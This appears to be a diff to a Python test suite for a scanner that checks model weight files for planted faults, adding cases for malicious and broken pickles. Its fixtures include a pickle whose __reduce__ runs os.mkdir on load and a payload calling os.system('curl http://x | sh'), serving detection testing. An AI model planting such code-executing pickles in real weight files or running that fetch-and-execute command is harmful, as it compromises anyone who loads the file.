@@ -1,6 +1,8 @@
 """Each rule about weights finds the fault that is planted for it, and nothing where there is none."""
 
 import json
+import os
+import pickle
 from dataclasses import replace
 
 import numpy as np
@@ -16,6 +18,15 @@ from tests.inspect.planted import find, look
 from tests.weights.pickles import Call, Name, module, state_dict, tensor, torch_zip, zip_file
 
 ONE = np.arange(6, dtype=np.float32).reshape(2, 3)
+
+
+class Evil:
+    """A value whose pickle calls a function when it is loaded."""
+
+    def __reduce__(self):
+        return os.mkdir, ("x",)
+
+
 EVIL = Call(Name("os", "system"), ("curl http://x | sh",))
 PLACE = "sha256:" + "0" * 64
 FACTS = ModelFacts("resnet50", "m.safetensors", trained_on=TrainedOn("reef@v1", PLACE, None))
@@ -73,6 +84,9 @@ FAULTS = [
     ("DP601", model(facts=other(weights="m.bin")) | {"m.bin": b"abc"}, "m.bin: no file of weights that datapack knows"),
     ("DP602", {"m.pth": torch_zip({**VALUE, "x": EVIL}, ARRAYS)}, "m.pth would run os.system('curl http://x | sh')"),
     ("DP602", {"m.pt": torch_zip(module("a.B", VALUE), ARRAYS)}, "m.pt would run a.B(...)"),
+    ("DP602", {"m.bin": pickle.dumps({"x": Evil()}, 0)}, "m.bin would run posix.mkdir('x')"),
+    ("DP601", {"m.bin": b"cos\nmkdir\n(S'x'\ntR\xff"}, "m.bin: a broken pickle"),
+    ("DP601", {"m.bin": torch_zip(VALUE, ARRAYS)[:-30]}, "m.bin: a broken ZIP archive, perhaps cut off"),
     ("DP603", model(), "m.safetensors differs from resnet50 in 268 tensors"),
     ("DP603", model(arrays(**{"bn1.weight": ONE})), "m.safetensors differs from resnet50 in 1 tensors"),
     ("DP604", model(arrays(labels=4), replace(FACTS, categories=((1, "a"), (2, "b")))), "m.safetensors is for 4 categ"),
@@ -122,6 +136,7 @@ SOUND = [
     {"m.pth": torch_zip({"w": tensor("0", NAN)}, {"0": NAN})},  # numbers are for models
     {"data.bin": b"\x00\x01\x02" * 99, "words.pt": b"bom dia\n", "x.h5": b"\x89HDF\r\n\x1a\n" + bytes(99)},
     {MODEL: b'{"mine": 1}', "m.pth": torch_zip(VALUE, ARRAYS)},
+    {"points.bin": b"\x80\2" + bytes(range(99)), "more.bin": b"S" * 999, "text.bin": b"(in a\nsentence\nR."},
 ]
 
 
